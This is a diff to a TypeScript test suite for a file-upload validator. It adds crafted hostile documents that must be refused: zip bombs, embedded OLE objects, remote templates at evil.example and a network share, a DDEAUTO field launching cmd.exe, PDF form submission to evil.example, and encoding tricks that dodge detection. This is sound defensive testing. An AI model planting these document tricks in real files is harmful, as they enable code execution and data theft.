@@ -8,7 +8,19 @@ import type { ErrorCode } from '@bawaba/contract/errors.ts'
 import sharp from 'sharp'
 import { measureCpu } from '../../platform/test-patience.ts'
 import { openTestPortal, type TestPortal } from '../../test-portal.ts'
-import { docx, eicar, hugePng, multipart, packedPdf, pdf, photo, type TestFile } from './test-files.ts'
+import {
+  docx,
+  eicar,
+  hugePng,
+  multipart,
+  packedPdf,
+  pdf,
+  pdfHolding,
+  photo,
+  rels,
+  type TestFile,
+  zip,
+} from './test-files.ts'
 
 let portal: TestPortal
 let owner: Awaited<ReturnType<TestPortal['citizen']>>
@@ -92,6 +104,99 @@ const hostile: Record<string, [TestFile | (() => Promise<TestFile>), ErrorCode]>
     docx('a.docx', [{ name: 'x', bytes: Buffer.from('x'), claims: 0xfffffffe }]),
     'FILE_ARCHIVE',
   ],
+  'a zip bomb whose directory lies': [
+    docx('a.docx', [{ name: 'word/media/a.png', bytes: Buffer.alloc(250 << 20), claims: 1000 }]),
+    'FILE_ARCHIVE',
+  ],
+  'a document whose directory tells more than there is': [
+    docx('a.docx', [{ name: 'word/media/a.png', bytes: Buffer.alloc(10), claims: 1000 }]),
+    'FILE_DAMAGED',
+  ],
+  'a zip inside a document, whatever it is called': [
+    docx('a.docx', [{ name: 'word/media/a.png', bytes: zip([{ name: 'b', bytes: Buffer.alloc(1 << 20) }]) }]),
+    'FILE_EMBEDDED',
+  ],
+  'a workbook inside a document': [
+    docx('a.docx', [{ name: 'word/embeddings/sheet.xlsx', bytes: Buffer.from('x') }]),
+    'FILE_EMBEDDED',
+  ],
+  'an OLE object inside a document': [
+    docx('a.docx', [{ name: 'word/media/b.dat', bytes: Buffer.from('d0cf11e0a1b11ae100', 'hex') }]),
+    'FILE_EMBEDDED',
+  ],
+  'a document with a template from elsewhere': [
+    docx('a.docx', [rels('attachedTemplate', 'https://evil.example/t.dotm')]),
+    'FILE_REMOTE',
+  ],
+  'a template whose mode is spelled in another way': [
+    docx('a.docx', [rels('attachedTemplate', 'x.dotm', "TargetMode = '&#69;xternal'")]),
+    'FILE_REMOTE',
+  ],
+  'a template from a share': [
+    docx('a.docx', [rels('attachedTemplate', '\\\\evil\\t.dotm', '')]),
+    'FILE_REMOTE',
+  ],
+  'relations written in UTF-16': [
+    docx('a.docx', [
+      {
+        name: 'word/_rels/settings.xml.rels',
+        bytes: Buffer.concat([
+          Buffer.from('fffe', 'hex'),
+          Buffer.from(rels('frame', 'http://evil.example').bytes.toString(), 'utf16le'),
+        ]),
+      },
+    ]),
+    'FILE_REMOTE',
+  ],
+  'relations with entities': [
+    docx('a.docx', [
+      { name: '_rels/.rels', bytes: Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>') },
+    ]),
+    'FILE_UNSAFE',
+  ],
+  'a picture from elsewhere': [
+    docx('a.docx', [rels('image', 'http://evil.example/a.png', undefined, 'word/_rels/document.xml.rels')]),
+    'FILE_REMOTE',
+  ],
+  'a control that runs': [docx('a.docx', [rels('control', 'x.bin', '')]), 'FILE_UNSAFE'],
+  'ActiveX parts': [
+    docx('a.docx', [{ name: 'word/activeX/activeX1.xml', bytes: Buffer.from('<a/>') }]),
+    'FILE_UNSAFE',
+  ],
+  'a field that starts a program': [
+    docx('a.docx', [
+      {
+        name: 'word/header1.xml',
+        bytes: Buffer.from('<w:instrText>D</w:instrText></w:r><w:instrText>DEAUTO c:\\cmd.exe</w:instrText>'),
+      },
+    ]),
+    'FILE_UNSAFE',
+  ],
+  'a PDF with a file inside': [
+    pdf(
+      'a.pdf',
+      '/Names <</EmbeddedFiles 5 0 R>>',
+      '5 0 obj <</Type/EmbeddedFile>> stream\nx\nendstream endobj',
+    ),
+    'FILE_EMBEDDED',
+  ],
+  'a PDF with a note that is a file': [
+    pdf('a.pdf', '', '5 0 obj <</Subtype/FileAttachment>> endobj'),
+    'FILE_EMBEDDED',
+  ],
+  'a PDF that sends what is typed': [
+    pdf('a.pdf', '/AA <</S/Submit#46orm/F(https://evil.example)>>'),
+    'FILE_REMOTE',
+  ],
+  'a PDF that hides a sender': [pdfHolding(Buffer.from('5 0 <</S/SubmitForm>>')), 'FILE_REMOTE'],
+  'a PDF that unpacks to too much': [
+    pdfHolding(Buffer.concat([Buffer.alloc(8 << 20, 32), Buffer.from('/JavaScript')])),
+    'FILE_ARCHIVE',
+  ],
+  'a PDF packed so that it is not read': [
+    pdfHolding(Buffer.from('x'), '/Filter[/ASCIIHexDecode/FlateDecode]'),
+    'FILE_UNSAFE',
+  ],
   'a zip of too many entries': [
     docx(
       'a.docx',
@@ -138,6 +243,12 @@ for (const [title, [made, code]] of Object.entries(hostile)) {
 
 test('honest files pass: what the checks refuse is not refused by accident', async () => {
   const honest = [
+    docx('links.docx', [
+      rels('hyperlink', 'https://example.eg', undefined, 'word/_rels/document.xml.rels'),
+      { name: 'docProps/app.xml', bytes: Buffer.from('<Properties/>') },
+      { name: 'word/media/a.png', bytes: Buffer.alloc(50_000, 'picture') },
+    ]),
+    pdfHolding(Buffer.from('5 0 <</S/URI/URI(https://example.eg)>>')),
     ...[await photo(), pdf(), docx(), text('ملاحظات.txt', 'سطر\nآخر'), text('a.csv', 'a,b\n1,2', 'text/csv')],
     ...[
       text('notes.txt', 'a'.repeat(limit)),
